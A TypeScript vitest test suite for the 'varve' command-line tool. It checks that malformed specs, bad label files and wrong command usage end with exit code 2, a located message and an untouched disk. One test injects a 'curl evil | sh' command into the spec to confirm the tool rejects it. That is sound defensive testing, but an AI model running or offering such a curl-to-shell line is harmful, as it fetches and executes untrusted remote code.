import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Sqlite from 'better-sqlite3';
import { describe, expect, it } from 'vitest';
import { type Ended, inTemporaryFolder, microSpec, projectRoot, varve } from './cli-process.ts';

const labels = readFileSync(join(projectRoot, 'examples/labels/li6ps5cl-gpaw-pw400.extxyz'), 'utf8');
const spec = readFileSync(microSpec, 'utf8');

/** Runs a changed spec with changed labels; demands that nothing was written. */
async function runChanged(
  changeSpec: (text: string) => string,
  changeLabels = (text: string): string => text,
): Promise<Ended> {
  return inTemporaryFolder(async (folder) => {
    mkdirSync(join(folder, 'labels'));
    writeFileSync(join(folder, 'labels/li6ps5cl-gpaw-pw400.extxyz'), changeLabels(labels));
    writeFileSync(join(folder, 'spec.yaml'), changeSpec(spec));
    const ended = await varve(['run', 'spec.yaml', '--store', 'store'], folder);
    expect(existsSync(join(folder, 'store')), ended.stderr).toBe(false);
    expect(ended.stdout).toBe('');
    return ended;
  });
}

const same = (text: string): string => text;

describe('bad input ends with exit code 2, a message that says what and where, and an untouched disk', () => {
  it.each<[string, (text: string) => string, RegExp]>([
    ['broken YAML', (text) => text.replace('seed: 1', 'seed: [1'), /spec\.yaml:\d+:\d+: the spec is not valid YAML/],
    [
      'an unknown field',
      (text) => text.replace('timeStepFs', 'timestepFs'),
      /spec\.yaml:\d+: dynamics\.timestepFs: is no field of the spec/,
    ],
    [
      'a command to be run',
      (text) => text.replace('seed: 1', 'seed: 1\nengine: { command: "curl evil | sh" }'),
      /spec\.yaml:6: engine: is no field of the spec/,
    ],
    ['a wrong type', (text) => text.replace('seed: 1', 'seed: one'), /spec\.yaml:5: seed: .*expected (number|int)/],
    [
      'an unknown species',
      (text) => text.replaceAll('[Li, P, S, Cl]', '[Li, P, S, Br]'),
      /extxyz:\d+: element "Cl" is not among the campaign's/,
    ],
    [
      'overlapping atoms',
      (text) => text.replace('latticeConstantA: 10.25', 'latticeConstantA: 5.25'),
      /structures\.anion-ordered-bulk: atoms overlap; .*Å apart/,
    ],
    [
      'a reference to nothing',
      (text) => text.replace('potential: level-4', 'potential: level-9'),
      /runs\[0\]\.potential: names no potential of this spec; expected one of level-4/,
    ],
    [
      'a missing label file',
      (text) => text.replace('li6ps5cl-gpaw', 'no-such-file'),
      /no-such-file-pw400\.extxyz: the label file cannot be read; found no such file/,
    ],
    [
      'a segment that is no whole number of steps',
      (text) => text.replace('segmentPs: 0.2', 'segmentPs: 0.2005'),
      /segmentPs: must be a whole number of time steps/,
    ],
  ])('%s', async (_name, change, message) => {
    const ended = await runChanged(change);
    expect(ended.stderr).toMatch(message);
    expect(ended.code).toBe(2);
  });

  it.each<[string, (text: string) => string, RegExp]>([
    ['labels without an energy', (text) => text.replace(/energy=\S+ /, ''), /extxyz:2: the label has no energy/],
    [
      'labels without stress and virial',
      (text) => text.replace(/virial="[^"]*" /, '').replace(/stress="[^"]*" /, ''),
      /extxyz:2: the label has neither stress nor virial/,
    ],
    [
      'a force that is not finite',
      (text) => text.replace('0.80451714', 'NaN'),
      /extxyz:3: forces of atom 0 is not a finite number; found "NaN"/,
    ],
    [
      'a virial that contradicts the stress',
      (text) => text.replace('virial="38.98', 'virial="-38.98'),
      /extxyz:2: virial contradicts stress; expected virial = −stress·volume/,
    ],
    [
      'a file that ends within a frame',
      (text) => text.slice(0, text.length - 2000),
      /the file ends within a frame|wrong number of columns/,
    ],
    [
      'overlapping atoms in a label',
      (text) =>
        text.replace('4.36598261       7.05654659       7.62632327', '0.23587327       2.63859012       2.54470492'),
      /extxyz:2: atoms overlap/,
    ],
    [
      'labels of two methods',
      (text) => text.replace('label="GPAW-22.8.0 PBE PW400 Gamma dav d1e-5"', 'label="another"'),
      /trainingSets\.all: the training set mixes labels of different methods.*allowMixedMethods: true/,
    ],
  ])('%s', async (_name, change, message) => {
    const ended = await runChanged(same, change);
    expect(ended.stderr).toMatch(message);
    expect(ended.code).toBe(2);
  });

  it('wrong use of the commands', async () => {
    await inTemporaryFolder(async (folder) => {
      for (const [args, message] of [
        [['run', 'no-such.yaml'], /no-such\.yaml: the spec cannot be read; found no such file/],
        [['run', folder], /the spec cannot be read; found a folder/],
        [['run', microSpec, '--workers', '0'], /argument '0' is invalid. Expected a whole number from 1/],
        [['status'], /there is no store here/],
        [['why', 'tableV/x/y', '--store', join(folder, 'none')], /there is no store here/],
        [['frobnicate'], /unknown command/],
        [['run', microSpec, '--store', '/dev/null'], /not a store/],
      ] as const) {
        const ended = await varve(args, folder);
        expect(ended.stderr).toMatch(message);
        expect(ended.code, ended.stderr).toBe(2);
        expect(readdirSync(folder)).toEqual([]);
      }
    });
  });
});

describe('a store', () => {
  it('of a newer version is refused with both versions named, and left as it is', async () => {
    await inTemporaryFolder(async (folder) => {
      const store = join(folder, 'store');
      expect((await varve(['run', microSpec, '--store', store])).code).toBe(0);
      const database = new Sqlite(join(store, 'log.sqlite'));
      database.pragma('user_version = 99');
      database.close();
      for (const args of [['run', microSpec], ['status'], ['tables']]) {
        const ended = await varve([...args, '--store', store]);
        expect(ended.stderr).toMatch(/newer varve.*99/s);
        expect(ended.code).toBe(2);
      }
    });
  });
});
